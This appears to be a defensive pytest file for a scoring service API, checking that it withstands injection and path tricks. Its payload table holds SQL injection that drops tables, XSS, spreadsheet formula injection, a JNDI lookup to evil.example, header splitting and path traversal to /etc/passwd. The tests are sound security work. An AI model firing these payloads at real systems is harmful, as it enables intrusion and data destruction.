"""Injection into every text field, and tricks with paths and keys: nothing is executed, nothing let in."""

import socket
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest

from serving.access.ring import Call, KeyRing
from serving.sent import Inbox
from serving.store import ScoreStore
from tests import stores
from tests.market_home import MarketHome, a_client, a_key, ebb
from tests.test_service import assert_problem

POISONS = {
    "sql": "x'); DROP TABLE sent; DELETE FROM scores; --",
    "sql or": "' OR '1'='1",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "terminal": "\x1b[2J\x1b]0;x\x07",
    "template": "{{ 7 * 7 }} ${jndi:ldap://evil.example} %s%n",
    "markup": "[link=http://evil.example]x[/link][blink]",
    "nul": "a\x00b",
    "path": "../../../../etc/passwd",
    "bidi": "‮gpj.exe",
}


@pytest.fixture(scope="module")
def client(market_home: MarketHome) -> Iterator[httpx.Client]:
    with market_home.client() as opened:
        yield opened


def tables(home: Path) -> dict[str, int]:
    """Table -> its rows, but for the record of calls, which grows with every request."""
    with closing(sqlite3.connect(home / "ebb.db")) as connection:
        names = [row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return {
            name: connection.execute(f'SELECT count(*) FROM "{name}"').fetchone()[0]
            for name in names
            if name not in ("calls", "sqlite_sequence")
        }


@pytest.mark.parametrize("poison", POISONS.values(), ids=list(POISONS))
def test_every_text_field_is_only_a_text(client: httpx.Client, market_home: MarketHome, poison: str) -> None:
    """In ids, names, filters, cursors, notes and keys: as many rows as before, no header of its own, never a page."""
    before = tables(market_home.folder)
    outcome = {"account_id": poison, "contract_id": poison, "outcome": "churned", "decided_on": "2030-01-01"}
    said = {"account_id": poison, "reason": "other", "note": poison, "by": poison}
    brought = {"account_id": poison, "segment": poison, "signals": {poison: 1.0}}
    key = {"Idempotency-Key": "poisoned"}
    told = [
        client.post("/v1/score", json={"account_ids": [poison]}),
        client.post("/v1/score", json={"account_ids": ["a"], poison: 1}),
        client.post("/v1/score/signals", json={"accounts": [brought]}),
        client.post("/v1/outcomes", json={"outcomes": [outcome]}, headers={"Idempotency-Key": f"o {percent(poison)}"}),
        client.post("/v1/outcomes", json={"outcomes": [outcome | {"outcome": poison}]}, headers=key),
        client.post("/v1/feedback", json={"feedback": [said]}, headers={"Idempotency-Key": f"f {percent(poison)}"}),
        client.post("/v1/feedback", json={"feedback": [said | {"reason": poison}]}, headers=key),
        client.get(f"/v1/accounts/{percent(poison)}"),
        client.get(f"/v1/jobs/{percent(poison)}"),
        *(client.get("/v1/worklist", params={name: poison}) for name in ("owner", "segment", "plan", "band", "cursor")),
        client.get("/v1/worklist", params={poison: "1"}),
        client.get("/v1/worklist", headers={"If-None-Match": "".join(filter(str.isprintable, ascii(poison)))}),
    ]
    for answer in told:
        assert answer.status_code < 500, answer.text
        assert answer.headers["content-type"] in ("application/json", "application/problem+json")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "set-cookie" not in answer.headers
    sent = {"sent": before["sent"] + 2}
    assert tables(market_home.folder) == before | sent


def percent(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


def test_what_was_kept_is_shown_as_text(client: httpx.Client, market_home: MarketHome) -> None:
    """Notes and paths with formulas, markup and control characters reach spreadsheet and terminal as harmless text."""
    account = client.get("/v1/worklist?top=1").json()["items"][0]["account_id"]
    for name, poison in POISONS.items():
        said = {"account_id": account, "reason": "other", "note": poison, "by": poison}
        body, key = {"feedback": [said]}, {"Idempotency-Key": f"shown {name}"}
        assert client.post("/v1/feedback", json=body, headers=key).json()["kept"] == 1
        client.get(f"/v1/accounts/{percent(poison)}")
    for form in ("table", "json"):
        shown = ebb("sent", "--kind", "feedback", "--top", 100, "--format", form, "--home", market_home.folder)
        assert (shown.returncode, "\x1b" in shown.stdout) == (0, False)
    rows = ebb("sent", "--top", 100, "--format", "csv", "--home", market_home.folder).stdout
    assert "'=HYPERLINK" in rows
    assert "'@SUM" in rows
    calls = ebb("keys", "calls", "--top", 100, "--home", market_home.folder)
    assert (calls.returncode, "\x1b" in calls.stdout) == (0, False)


@pytest.mark.parametrize(
    "path",
    [
        "/v1/accounts/../worklist",
        "/v1/accounts/%2e%2e/worklist",
        "/v1/accounts/..%2fworklist",
        "/static_content/../v1/worklist",
        "/static_content/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/static_content/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "//v1/worklist",
        "/v1//worklist",
        "/v1/./worklist",
        "/v1/worklist/",
        "/V1/WORKLIST",
        "/v1/worklist%00",
        "/v1/worklist;jsessionid=1",
        "/v1/worklist%0d%0aSet-Cookie:a=b",
        "/v1/%EF%BD%97orklist",
        "/v1/%C0%AE%C0%AE/worklist",
        "/v1/jobs/../../ebb.db",
        "/v1/jobs/" + "a" * 5_000,
        "/v1/accounts/" + "a" * 60_000,
        "/healthz/../v1/worklist",
        "/healthz%2f..%2fv1%2fworklist",
        "/docs/../v1/worklist",
    ],
)
def test_a_path_that_is_bent_opens_nothing(market_home: MarketHome, only_score: httpx.Client, path: str) -> None:
    """Without a key 401, whatever the path; with a key for scores only, never what reading is for, nor another host."""
    assert told(market_home, path, "") == 401
    assert told(market_home, path, only_score.headers["authorization"]) in (403, 404)


@pytest.fixture(scope="module")
def only_score(market_home: MarketHome) -> Iterator[httpx.Client]:
    with a_client(market_home.url, a_key(market_home.folder, "bent", "score")) as opened:
        yield opened


def told(market_home: MarketHome, path: str, authorization: str) -> int:
    """The status that a path gets as it is written, which a client would tidy up."""
    host, _, port = market_home.url.removeprefix("http://").partition(":")
    head = f"GET {path} HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n"
    keyed = f"Authorization: {authorization}\r\n" if authorization else ""
    with socket.create_connection((host, int(port)), timeout=20) as wire:
        wire.sendall(f"{head}{keyed}\r\n".encode())
        answer = b"".join(iter(lambda: wire.recv(65_536), b""))
    assert b"evil.example" not in answer
    assert b"Set-Cookie" not in answer.partition(b"\r\n\r\n")[0]
    return int(answer.split(b" ", 2)[1])


def test_a_header_cannot_be_split(market_home: MarketHome) -> None:
    """A line break, a NUL or a second key in a header is no header."""
    for header in ("Idempotency-Key: a\r\n\tb", "X: a\x00b", "Authorization: Bearer a\r\nAuthorization: Bearer b"):
        host, _, port = market_home.url.removeprefix("http://").partition(":")
        with socket.create_connection((host, int(port)), timeout=20) as wire:
            wire.sendall(f"GET /v1/worklist HTTP/1.1\r\nHost: a\r\n{header}\r\nConnection: close\r\n\r\n".encode())
            assert wire.recv(65_536).split(b" ", 2)[1] in (b"400", b"401")


@pytest.mark.parametrize("path", ["/v1/worklist/", "/v1/score/", "/docs/", "/metrics/"])
def test_no_path_leads_to_another_host(client: httpx.Client, path: str) -> None:
    """A slash too many is a path that is not there, not a redirect to whatever host the request named."""
    for method in ("GET", "POST"):
        assert_problem(client.request(method, path, headers={"Host": "evil.example"}), 404, "nothing at this path")


def test_a_text_that_postgresql_cannot_hold_is_no_fault() -> None:
    """With a NUL an account is not found, and the record of calls goes on."""
    with stores.served() as server, stores.emptied(server) as url, ScoreStore(url) as store:
        assert store.score(1, "a\x00b") is None
        row = {"account_id": "a\x00", "reason": "other", "note": "\x00"}
        sending = Inbox(store).take("feedback", [row], idempotency_key="k\x00", key="crm")
        assert sending.errors[0]["error"] == "no such account was ever scored"
        ring = KeyRing(store.database)
        ring.record([a_call("/v1/accounts/a\x00b")], {})
        assert [call.path for call in ring.calls()] == ["/v1/accounts/a�b"]


def a_call(path: str) -> Call:
    about = {"method": "GET", "status": 404, "accounts": 1, "account_ids": ["a\x00", "\ud800"], "milliseconds": 1.0}
    return Call(at=datetime.now(UTC), key="crm", path=path, model_version=None, cutoff=None, **about)  # type: ignore[arg-type]
